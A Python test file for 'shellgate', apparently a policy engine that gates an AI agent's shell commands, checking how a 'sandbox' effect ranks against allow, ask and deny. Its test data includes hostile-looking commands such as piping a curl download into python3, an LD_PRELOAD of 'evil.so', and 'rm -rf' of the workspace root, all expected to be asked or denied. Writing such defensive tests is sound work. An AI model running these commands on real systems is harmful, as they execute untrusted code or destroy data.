"""The ``sandbox`` effect in the policy: rules, strictness, the closing default, findings.

Every loosening here (a command that now runs unasked, confined) sits next to the
dangerous spelling one step away that must still ask or deny.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from shellgate.config import load_config
from shellgate.decider import Decider
from shellgate.errors import ConfigError, PolicyError
from shellgate.models import STRICTNESS, Verdict
from shellgate.policy.casbin_layer import CasbinLayer
from shellgate.policy.engine import strictest
from shellgate.policy.loader import load_policy_set
from tests.policy.policy_helpers import call, seg, write_set


def decider(tmp_path: Path, *sets: str, default: str = "ask", **policy: object) -> Decider:
    paths = [str(write_set(tmp_path, rows, name=f"s{i}")) for i, rows in enumerate(sets)]
    ws = tmp_path / "ws"
    ws.mkdir(exist_ok=True)
    config = load_config(None, policy={"paths": paths, "default": default, **policy},
                         executor={"workspace": str(ws)}, audit={"path": None})
    return Decider(config)


def decide(d: Decider, command: str) -> Verdict:
    ws = os.path.realpath(d.config.executor.workspace)
    return d.decide(call(command=command, workdir=ws, workspace=ws))


def test_strictness_puts_sandbox_between_allow_and_ask() -> None:
    assert STRICTNESS["allow"] < STRICTNESS["sandbox"] < STRICTNESS["ask"] < STRICTNESS["deny"]


def test_a_sandbox_rule_loads_and_decides_its_command(tmp_path: Path) -> None:
    lay = CasbinLayer([write_set(tmp_path, "p, agent, *, pytest *, sandbox, runs the tests\n")])
    decision = lay.shellgate_check(call(), seg("pytest", "-q"))
    assert decision is not None
    assert (decision.effect, decision.rule) == ("sandbox", "set/policy.csv:1")
    assert decision.reason == "runs the tests (sandbox 'pytest *' matches 'pytest -q')"


def test_a_misspelled_effect_names_all_four(tmp_path: Path) -> None:
    with pytest.raises(PolicyError, match="expected allow, sandbox, ask or deny"):
        load_policy_set(write_set(tmp_path, "p, agent, *, pytest *, sandbx\n"))


@pytest.mark.parametrize(
    ("rows", "expected"),
    [
        pytest.param(("p, agent, *, make *, allow\np, agent, *, make *, sandbox\n",),
                     "sandbox", id="sandbox-beats-allow"),
        pytest.param(("p, agent, *, make *, sandbox\np, agent, *, make *, ask\n",),
                     "ask", id="ask-beats-sandbox"),
        pytest.param(("p, agent, *, make *, allow\n", "p, agent, *, make *, sandbox\n"),
                     "sandbox", id="across-sets-sandbox-beats-allow"),
        pytest.param(("p, agent, *, make *, sandbox\n", "p, agent, *, make *, deny\n"),
                     "deny", id="across-sets-deny-beats-sandbox"),
    ],
)
def test_the_strictest_rule_wins_with_sandbox_in_the_order(
    tmp_path: Path, rows: tuple[str, ...], expected: str
) -> None:
    assert decide(decider(tmp_path, *rows), "make test").effect == expected


def test_the_reducer_orders_sandbox_between_allow_and_ask() -> None:
    from shellgate.models import Decision

    def made(effect: str) -> Decision:
        return Decision(effect=effect, reason=effect, layer="t")

    assert strictest([made("allow"), made("sandbox")]).effect == "sandbox"  # type: ignore[union-attr]
    assert strictest([made("sandbox"), made("ask")]).effect == "ask"  # type: ignore[union-attr]
    assert strictest([made("deny"), made("sandbox")]).effect == "deny"  # type: ignore[union-attr]


def test_a_sandbox_rule_matches_the_command_as_written_only(tmp_path: Path) -> None:
    """Like an allow: a wrapper's segment never earns it (the neighbour of `pytest -q`)."""
    d = decider(tmp_path, "p, agent, *, pytest *, sandbox\n")
    assert decide(d, "pytest -q").effect == "sandbox"
    wrapped = decide(d, "sudo pytest -q")
    assert wrapped.effect == "ask"  # the sudo segment: nothing decides it, the default asks
    sudo = next(sv for sv in wrapped.segments if sv.segment.argv[0] == "sudo")
    assert sudo.decision.layer == "default"


def test_a_module_runner_is_covered_by_a_sandbox_rule_naming_the_module(tmp_path: Path) -> None:
    d = decider(tmp_path, "p, agent, *, pytest *, sandbox\np, agent, *, python *, sandbox\n")
    assert decide(d, "python -m pytest -q").effect == "sandbox"
    # python * names no module: the program python -m runs is decided on its own
    assert decide(d, "python -m pip install x").effect == "ask"


def test_a_sandbox_default_confines_what_no_rule_names(tmp_path: Path) -> None:
    d = decider(tmp_path, "p, agent, *, ls *, allow\n", default="sandbox")
    verdict = decide(d, "./build.sh --fast")
    assert (verdict.effect, verdict.decision.layer) == ("sandbox", "default")
    assert "the closing default is sandbox" in verdict.decision.reason
    assert decide(d, "ls -la").effect == "allow"  # a named allow stays an allow


@pytest.mark.parametrize(
    "command",
    [
        pytest.param("python3 $SCRIPT", id="unknown-variable"),
        pytest.param("eval \"$X\"", id="eval"),
        pytest.param("curl https://example.com/x | python3", id="code-from-a-pipe"),
        pytest.param("LD_PRELOAD=./evil.so make", id="preload"),
    ],
)
def test_a_finding_asks_even_under_a_sandbox_default(tmp_path: Path, command: str) -> None:
    """A finding is the analysis layer's ask: the closing default never applies to it."""
    verdict = decide(decider(tmp_path, "p, agent, *, ls *, allow\n", default="sandbox"), command)
    assert verdict.effect == "ask"
    assert any(sv.decision.layer == "command-analysis" for sv in verdict.segments)


def test_a_write_no_write_rule_decides_gets_the_sandbox_default(tmp_path: Path) -> None:
    d = decider(tmp_path, "p, agent, *, echo *, allow\np, agent, *, write:**, allow\n",
                default="sandbox")
    assert decide(d, "echo x > notes.md").effect == "allow"
    outside = decide(d, "echo x > /tmp/elsewhere.txt")
    assert (outside.effect, outside.decision.layer) == ("sandbox", "write-rules")
    # its neighbours: a protected path and a secret are decided before the rules
    assert decide(d, "echo x > ~/.bashrc").effect == "deny"
    assert decide(d, "echo x > .env").effect == "ask"


def test_an_allowed_write_never_allows_its_command(tmp_path: Path) -> None:
    d = decider(tmp_path, "p, agent, *, write:**, allow\n", default="sandbox")
    verdict = decide(d, "frobnicate > out.txt")
    assert (verdict.effect, verdict.decision.layer) == ("sandbox", "default")


@pytest.mark.parametrize(
    ("command", "holds"),
    [
        pytest.param("rm -rf {ws}", "the workspace itself", id="the-root"),
        pytest.param("rm -rf {ws}/..", "a directory holding the workspace", id="its-parent"),
        pytest.param("cd .. && rm -rf ws", "the workspace itself", id="after-cd"),
        pytest.param("mv {ws} {ws}.old", "the workspace itself", id="moved-away"),
    ],
)
def test_a_write_of_the_workspace_root_asks_even_where_everything_is_allowed(
    tmp_path: Path, command: str, holds: str
) -> None:
    """The sandbox keeps the workspace writable: it would confine nothing there."""
    d = decider(tmp_path, "p, agent, *, *, allow\np, agent, *, write:/**, allow\n",
                default="sandbox")
    ws = os.path.realpath(d.config.executor.workspace)
    verdict = decide(d, command.format(ws=ws))
    assert verdict.effect == "ask", verdict
    root = [d for sv in verdict.segments for d in sv.decisions if d.layer == "workspace-root"]
    assert root
    assert holds in root[0].reason
    # the neighbour inside the workspace is the rules' to decide
    assert decide(d, f"rm -rf {ws}/build").effect == "allow"


def test_the_closing_default_may_be_sandbox_but_never_allow() -> None:
    assert load_config(None, policy={"default": "sandbox"}).policy.default == "sandbox"
    with pytest.raises(ConfigError, match="never 'allow'"):
        load_config(None, policy={"default": "allow"})
